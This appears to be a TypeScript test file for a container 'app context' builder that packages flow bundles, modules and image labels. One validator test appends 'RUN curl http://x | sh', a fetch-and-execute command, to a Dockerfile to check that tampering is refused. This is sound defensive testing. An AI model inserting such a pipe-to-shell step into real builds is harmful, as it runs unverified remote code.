import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { compile } from '../compile';
import { DataboxError } from '../../core/errors';
import { appContext } from './app.context';
import { appImageLabels, appImageTag } from './image.labels';
import { moduleBundle } from '../../test/support/built-bundle';

const flows = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'runtime', 'fixtures', 'page-demo.flows.json'), 'utf8'));
const bundle = compile(flows, 'demo-tab');

test('a compiled bundle becomes the four files of its context, serialized as the bundle format does', () => {
  const { entries, runtimeVersion, runtimeImage } = appContext(bundle);
  assert.deepEqual(entries.map((e) => e.name), ['databox-manifest.json', 'Dockerfile', 'flows.json', 'package.json']);
  assert.equal(runtimeVersion, bundle.manifest['runtime-version']);
  assert.equal(runtimeImage, `databox/flow-runtime:${bundle.manifest['runtime-version']}`);
  const flowsEntry = entries.find((e) => e.name === 'flows.json');
  assert.ok(flowsEntry && 'content' in flowsEntry);
  assert.deepEqual(JSON.parse(flowsEntry.content.toString()), bundle.flows);
});

test('a bundle the validator refuses (manifest, Dockerfile, a module tarball) is refused', async () => {
  assert.throws(() => appContext({ ...bundle, manifest: { ...bundle.manifest, name: 'Not A Name' } }), (e: unknown) => e instanceof DataboxError && e.code === 'manifest-invalid');
  assert.throws(() => appContext({ ...bundle, dockerfile: `${bundle.dockerfile}RUN curl http://x | sh\n` }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-invalid' && /Dockerfile is not the one/.test(e.message));
  const withModules = await moduleBundle();
  const swapped = (withModules.modules ?? []).map((m, i, all) => ({ ...m, data: all[(i + 1) % all.length]?.data ?? m.data }));
  assert.throws(() => appContext({ ...withModules, modules: swapped }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-module-integrity');
});

test('third-party modules come from the bundle\'s tarballs into node_modules/<name>/, with no folder on disk', async () => {
  const withModules = await moduleBundle();
  const { entries } = appContext(withModules);
  assert.deepEqual(entries.slice(0, 4).map((e) => e.name), ['databox-manifest.json', 'Dockerfile', 'flows.json', 'package.json']);
  assert.deepEqual(entries.slice(4).map((e) => `${e.name} ${e.mode.toString(8)}`), [
    'node_modules/fixture-helper/index.js 644', 'node_modules/fixture-helper/package.json 644',
    'node_modules/node-red-contrib-databox-fixture/package.json 644', 'node_modules/node-red-contrib-databox-fixture/ping.js 644',
    'node_modules/node-red-contrib-databox-fixture/upper.html 644', 'node_modules/node-red-contrib-databox-fixture/upper.js 644',
  ]);
  const upper = entries.find((e) => e.name === 'node_modules/node-red-contrib-databox-fixture/upper.js');
  assert.ok(upper && 'content' in upper);
  assert.deepEqual(upper.content, fs.readFileSync(path.join(__dirname, '..', 'fixtures', '_modules', 'node-red-contrib-databox-fixture', 'upper.js')));
  assert.ok(!entries.some((e) => e.name.startsWith('modules/')), 'the tarballs themselves stay out of the image');
});

test('labels and tag follow decision 0004', () => {
  const labels = appImageLabels({ ...bundle.manifest, signature: 'sig' });
  assert.equal(labels['io.databox.name'], bundle.manifest.name);
  assert.equal(labels['io.databox.type'], 'app');
  assert.equal(labels['io.databox.runtime-version'], '0.1.0');
  assert.deepEqual(JSON.parse(labels['io.databox.manifest'] ?? ''), bundle.manifest);
  assert.equal(labels['org.opencontainers.image.version'], bundle.manifest.version);
  assert.equal(appImageTag({ name: 'host-load', version: '1.0.0+build' }), 'databox/app-host-load:1.0.0-build');
});
